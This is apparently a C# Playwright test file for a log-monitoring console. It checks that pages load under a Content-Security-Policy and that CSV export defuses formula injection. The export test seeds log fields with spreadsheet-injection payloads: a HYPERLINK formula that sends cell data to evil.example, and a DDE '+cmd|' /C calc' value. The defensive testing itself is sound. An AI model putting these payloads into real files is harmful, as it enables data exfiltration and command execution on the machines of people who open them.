using ActivityWatch.Api.Tests.Support;
using ActivityWatch.Monitoring.Audit;
using ActivityWatch.Testing.Records;
using Microsoft.Playwright;

namespace ActivityWatch.Api.Tests.Browser;

/// <summary>The console under its Content-Security-Policy, and what its CSV export does with hostile log fields.</summary>
public class ConsoleSecurityTests(ConsoleServer server) : IClassFixture<ConsoleServer>
{
    // The page records every CSP violation it sees; an init script runs outside the page's policy.
    private const string RecordViolations =
        "window.__violations = []; document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));";

    [Fact]
    public async Task EveryPage_LoadsUnderThePolicy_WithoutAViolation()
    {
        var page = await server.SignInAsync(AnalystRoles.Admin);
        await page.Context.AddInitScriptAsync(RecordViolations);
        var errors = new List<string>();
        page.Console += (_, message) => { if (message.Type == "error") errors.Add(message.Text); };
        page.PageError += (_, error) => errors.Add(error);
        var document = await page.GotoAsync("/");
        Assert.Contains("frame-ancestors 'none'", await document!.HeaderValueAsync("content-security-policy"));
        await page.Locator("#shell:not([hidden])").WaitForAsync();

        var principal = Uri.EscapeDataString($"arn:aws:iam::{CloudTrailRecords.Account}:user/alice");
        foreach (var route in new[] { "#/timeline", "#/alerts", "#/principals", $"#/principal?p={principal}&days=1", "#/reports", "#/rules", "#/ingestion", "#/audit" })
        {
            await page.GotoAsync("/" + route);
            await Assertions.Expect(page.Locator("#main")).Not.ToContainTextAsync("Loading…");
            await Assertions.Expect(page.Locator("#main")).Not.ToContainTextAsync("Could not load this page");
        }

        var violations = await page.EvaluateAsync<string[]>("window.__violations");
        Assert.Empty(violations);
        Assert.DoesNotContain(errors, e => e.Contains("Content Security Policy", StringComparison.OrdinalIgnoreCase));
        await page.Context.CloseAsync();
    }

    [Fact]
    public async Task CsvExport_TurnsFormulaCellsIntoText()
    {
        await server.IngestAsync(CloudTrailRecords.IamUserCall("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", userName: "csv-user",
            eventSource: "-2+3", sourceIp: "@SUM(1+1)", errorCode: "+cmd|' /C calc'!A0", region: "\t=1+1", accessKeyId: "\r=1+1", time: ConsoleServer.Recent));
        var page = await server.SignInAsync(AnalystRoles.Viewer);
        await page.FillAsync("[data-testid=query]", $"principal:\"arn:aws:iam::{CloudTrailRecords.Account}:user/csv-user\"");
        await page.ClickAsync("[data-testid=search]");
        await Assertions.Expect(page.Locator("[data-testid=timeline-table] tbody tr.clickable")).ToHaveCountAsync(1);

        var download = await page.RunAndWaitForDownloadAsync(() => page.Locator("[data-testid=export-csv]").First.ClickAsync());
        var csv = await File.ReadAllTextAsync(await download.PathAsync());

        Assert.Contains("'=HYPERLINK(", csv);
        Assert.Contains(",'-2+3,", csv);
        Assert.Contains(",'@SUM(1+1),", csv);
        Assert.Contains(",'+cmd|' /C calc'!A0,", csv);
        Assert.Contains(",'\t=1+1,", csv);
        Assert.Contains("\"'\r=1+1\"", csv);
        // No cell of the data row starts with a character a spreadsheet would evaluate.
        var cells = System.Text.RegularExpressions.Regex.Split(csv.Split("\r\n")[1], ",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)").Select(c => c.Trim('"'));
        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@\t\r".Contains(c[0]));
        await page.Context.CloseAsync();
    }
}
